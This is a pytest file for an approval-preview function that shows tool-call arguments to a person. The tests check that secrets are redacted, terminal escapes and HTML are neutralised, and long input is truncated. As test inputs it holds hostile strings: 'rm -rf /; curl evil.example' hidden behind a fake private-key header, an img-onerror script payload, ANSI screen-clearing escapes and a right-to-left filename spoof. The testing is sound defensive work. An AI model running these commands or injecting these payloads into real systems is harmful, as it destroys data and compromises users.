"""What a person sees of arguments: short, without secrets, nothing that a terminal or a page would obey."""

import msgspec
import pytest

from shared.approvals.preview import preview, visible


def test_arguments_are_shown_as_they_are_where_they_are_harmless() -> None:
    assert (
        preview(b'{"to": "bob", "amount": 12.50, "max_tokens": 5}')
        == '{"to":"bob","amount":12.5,"max_tokens":5}'
    )


@pytest.mark.parametrize(
    "secret",
    [
        '{"password": "hunter2hunter2"}',
        '{"a": {"Api-Key": ["hunter2hunter2"]}}',
        '{"client_secret": {"value": "hunter2hunter2"}}',
        '{"text": "my key is sk-hunter2hunter2hunter2 ok"}',
        '{"text": "gsk_hunter2hunter2hunter2hunter2"}',
        '{"header": "Authorization: Bearer hunter2hunter2hunter2"}',
        '{"url": "postgres://admin:hunter2hunter2@db/x"}',
        '{"pem": "-----BEGIN RSA PRIVATE KEY-----\\nhunter2hunter2"}',
        "password in text: ghp_hunter2hunter2hunter2",
    ],
)
def test_secrets_are_hidden(secret: str) -> None:
    shown = preview(secret.encode())
    assert "hunter2" not in shown
    assert "[hidden]" in shown


@pytest.mark.parametrize(
    "hostile", ["\x1b[2J\x1b]0;owned\x07", "a\u202egnp.exe", "a\u200bb", "\x9b31m", "a\rb\nc"]
)
def test_nothing_in_it_moves_a_terminal(hostile: str) -> None:
    for shown in (preview(msgspec.json.encode({"text": hostile, hostile: 1})), preview(hostile.encode())):
        assert shown.isprintable(), shown


def test_nothing_in_it_is_markup_to_a_page() -> None:
    hostile = b'{"text": "<img src=x onerror=alert(1)>&lt;"}'
    shown = preview(hostile)
    assert not set(shown) & set("<>&")
    assert msgspec.json.decode(shown) == msgspec.json.decode(hostile)


@pytest.mark.parametrize(
    "mark", ["-----BEGIN A PRIVATE KEY", "-----BEGIN RSA PRIVATE KEY-----\nTUlJRW93SUJBQUtDQVFFQQ=="]
)
def test_what_stands_behind_a_key_is_shown(mark: str) -> None:
    shown = preview(msgspec.json.encode({"command": f"echo {mark}\nrm -rf /; curl evil.example"}))
    assert "rm -rf /; curl evil.example" in shown
    assert "TUlJ" not in shown


def test_the_end_of_a_key_is_hidden_with_it() -> None:
    lines = ["-----BEGIN PRIVATE KEY-----", "A" * 64, "hunter2==", "-----END PRIVATE KEY-----"]
    for between in ("\n", "\\n"):
        shown = preview(msgspec.json.encode({"pem": between.join(lines)}))
        assert "AAAA" not in shown
    assert "hunter2" not in preview("\n".join(lines).encode())


def test_members_whose_names_look_alike_are_all_shown() -> None:
    names = ["x" * 200 + str(n) + "y" * 100 for n in range(2)]
    shown = preview(msgspec.json.encode({names[0]: "pay 1", names[1]: "pay 9999", "…": "pay more"}))
    for each in ("pay 1", "pay 9999", "pay more"):
        assert f'"{each}"' in shown


def test_it_is_short_and_says_what_it_leaves_out() -> None:
    shown = preview(msgspec.json.encode({"text": "a" * 100_000 + "rm -rf /", "list": list(range(1000))}))
    assert len(shown) < 1000
    assert "rm -rf / (100008 characters)" in shown
    assert "960 more" in shown
    deep = b'{"a":' * 40 + b"1" + b"}" * 40
    assert len(preview(deep)) < 200
    wide = msgspec.json.encode({f"{n}" * 200: "x" * 200 for n in range(10_000)})
    assert len(preview(wide)) < 6000


def test_a_member_that_stands_twice_is_shown_twice() -> None:
    assert preview(b'{"amount": 1000, "amount": 1}') == '{"amount": 1000, "amount": 1}'


def test_what_is_no_text_is_told_by_its_size() -> None:
    assert preview(b"\xff\xfe\x00") == "3 bytes that are no text"


def test_half_a_character_is_written_out() -> None:
    assert visible("a\ud800b") == "a\\ud800b"
